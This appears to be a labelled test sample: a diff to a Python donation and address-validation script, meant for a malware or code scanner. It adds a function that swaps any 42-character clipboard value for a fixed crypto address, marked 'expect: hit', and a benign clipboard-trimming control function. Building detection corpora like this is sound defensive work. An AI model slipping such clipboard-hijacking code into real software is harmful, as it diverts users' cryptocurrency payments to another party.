@@ -1,4 +1,5 @@
 import re
+import subprocess
 
 import pyperclip
 
@@ -47,3 +48,14 @@ def donate():
 
 def valid(text):
     return re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text) is not None
+
+
+def by_tool():
+    text = subprocess.check_output(["xclip", "-selection", "clipboard", "-o"], text=True)
+    if len(text) == 42:
+        subprocess.run(["xclip", "-selection", "clipboard"], input="0x" + "4e" * 20, text=True)  # expect: hit
+
+
+def cleaned_by_tool():
+    text = subprocess.check_output(["pbpaste"], text=True)
+    subprocess.run(["pbcopy"], input=text.strip(), text=True)
